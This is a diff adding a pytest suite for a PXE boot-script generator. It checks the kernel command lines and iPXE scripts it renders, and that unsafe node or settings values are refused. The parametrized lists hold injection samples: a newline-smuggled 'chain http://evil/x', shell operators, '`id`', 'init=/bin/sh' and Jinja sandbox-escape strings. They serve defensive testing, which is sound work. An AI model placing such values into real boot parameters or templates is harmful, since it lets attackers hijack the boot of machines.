@@ -1,0 +1,118 @@
+"""Boot scripts: what they say, and that no value of a record can say anything else."""
+
+from __future__ import annotations
+
+import dataclasses
+
+import jinja2
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from layercake.kraken.errors import InputError
+from pxe.nodes import Node
+from pxe.script import BootScript, command_line, environment, word
+from pxe.settings import Settings
+
+TOKEN = "one-use_token.42"
+
+
+def test_the_kernel_command_line(node: Node, settings: Settings) -> None:
+    assert command_line(node, node.macs[0], TOKEN, settings).split() == [
+        "initrd=minos.img", "layercake.node=6b1f2a3c-0000-4000-8000-000000000001", "layercake.name=n1",
+        "layercake.mac=52:54:00:00:01:01", "layercake.ip=10.99.0.11/24", "layercake.gateway=10.99.0.254",
+        "layercake.dns=10.99.0.1,10.99.0.2", "layercake.head=https://10.99.0.1:8443", "layercake.sync=10.99.0.1:31415",
+        f"layercake.token={TOKEN}", "panic=10", "console=ttyS0,115200", "quiet",
+    ]
+
+
+def test_the_script(node: Node, settings: Settings) -> None:
+    lines = BootScript(settings).render(node, node.macs[0], TOKEN).splitlines()
+    assert lines[0] == "#!ipxe"
+    kernel = next(line for line in lines if line.startswith("kernel "))
+    assert kernel.startswith("kernel --name vmlinuz http://10.99.0.1:8080/boot/vmlinuz initrd=minos.img layercake.node=")
+    assert kernel.endswith(" || goto again")
+    assert "initrd --name minos.img http://10.99.0.1:8080/boot/minos.img || goto again" in lines
+    told = "echo Layercake: n1 cannot boot from http://10.99.0.1:8080/boot, starts again in 5 seconds"
+    assert lines[-3:] == [told, "sleep 5", "reboot"]
+
+
+@pytest.mark.parametrize(("console", "words"), [
+    ("", []), ("tty0", ["console=tty0"]), ("ttyS1,57600", ["console=ttyS1,57600"]), ("ttyAMA0", ["console=ttyAMA0,115200"]),
+    ("ttyS0,115200n8", ["console=ttyS0,115200n8"]),
+])
+def test_consoles(node: Node, settings: Settings, console: str, words: list[str]) -> None:
+    line = command_line(dataclasses.replace(node, console=console), node.macs[0], TOKEN, settings)
+    assert [w for w in line.split() if w.startswith("console=")] == words
+
+
+def test_no_gateway_and_no_dns_are_no_words(node: Node, settings: Settings) -> None:
+    bare = dataclasses.replace(settings, gateway=None, dns=())
+    assert not {"gateway", "dns"} & {w.split("=")[0].removeprefix("layercake.") for w in
+                                     command_line(node, node.macs[0], TOKEN, bare).split()}
+
+
+@pytest.mark.parametrize("hostile", [
+    "quiet\nchain http://evil/x", "quiet\rreboot", "a ${token}", "a${net0/mac}", "x || shell", "x && shell", "x ; shell", "# x",
+    "a#b", "a\tb", "a\x00b", "a\x7fb", "a\u2028b", "ä", "a\\", "\"a b\"", "'a'", "a<b", "a>b", "`id`", "{{ 7 }}", "a\x0bb", "a\xa0b",
+])
+def test_kernel_args_that_mean_more_than_words_are_refused(node: Node, settings: Settings, hostile: str) -> None:
+    with pytest.raises(InputError, match="kernel_args"):
+        BootScript(settings).render(dataclasses.replace(node, kernel_args=hostile), node.macs[0], TOKEN)
+
+
+@pytest.mark.parametrize("hostile", ["layercake.token=x", "quiet layercake.node=other"])
+def test_kernel_args_cannot_say_who_the_node_is(node: Node, settings: Settings, hostile: str) -> None:
+    with pytest.raises(InputError, match=r"layercake\. word"):
+        command_line(dataclasses.replace(node, kernel_args=hostile), node.macs[0], TOKEN, settings)
+
+
+@pytest.mark.parametrize("hostile", ["ttyS0 init=/bin/sh", "ttyS0,115200\n", "${x}", "ttyS0;", "0"])
+def test_hostile_consoles(node: Node, settings: Settings, hostile: str) -> None:
+    with pytest.raises(InputError, match="console"):
+        command_line(dataclasses.replace(node, console=hostile), node.macs[0], TOKEN, settings)
+
+
+@pytest.mark.parametrize("change", [{"name": "n1\nreboot"}, {"id": "a b"}, {"id": ""}])
+def test_hostile_names(node: Node, settings: Settings, change: dict[str, str]) -> None:
+    with pytest.raises(InputError):
+        BootScript(settings).render(dataclasses.replace(node, **change), node.macs[0], TOKEN)
+
+
+def test_hostile_settings(node: Node, settings: Settings) -> None:
+    for change in ({"head_url": "https://h ${x}"}, {"sync_address": "a\nb"}):
+        with pytest.raises(InputError):
+            BootScript(dataclasses.replace(settings, **change)).render(node, node.macs[0], TOKEN)
+
+
+def test_a_bad_token_is_not_in_the_error(node: Node, settings: Settings) -> None:
+    with pytest.raises(InputError) as caught:
+        command_line(node, node.macs[0], "sec ret", settings)
+    assert "sec" not in str(caught.value).replace("token", "")
+
+
+def test_a_line_that_the_kernel_would_cut_is_refused(node: Node, settings: Settings) -> None:
+    with pytest.raises(InputError, match="2047"):
+        command_line(dataclasses.replace(node, kernel_args="a" * 2000), node.macs[0], TOKEN, settings)
+
+
+@given(st.text(max_size=30))
+def test_a_word_is_one_word(text: str) -> None:
+    try:
+        kept = word("x", text)
+    except InputError:
+        return
+    assert kept == text
+    assert text.split() == [text]
+    assert text.isascii()
+    assert not set(text) & set("${};#&|<>\"'\\`")
+
+
+def test_an_undefined_value_is_an_error() -> None:
+    with pytest.raises(jinja2.UndefinedError):
+        environment().from_string("kernel {{ nothing }}").render()
+
+
+def test_templates_are_in_a_sandbox() -> None:
+    with pytest.raises(jinja2.exceptions.SecurityError):
+        environment().from_string("{{ ''.__class__.__mro__ }}").render()
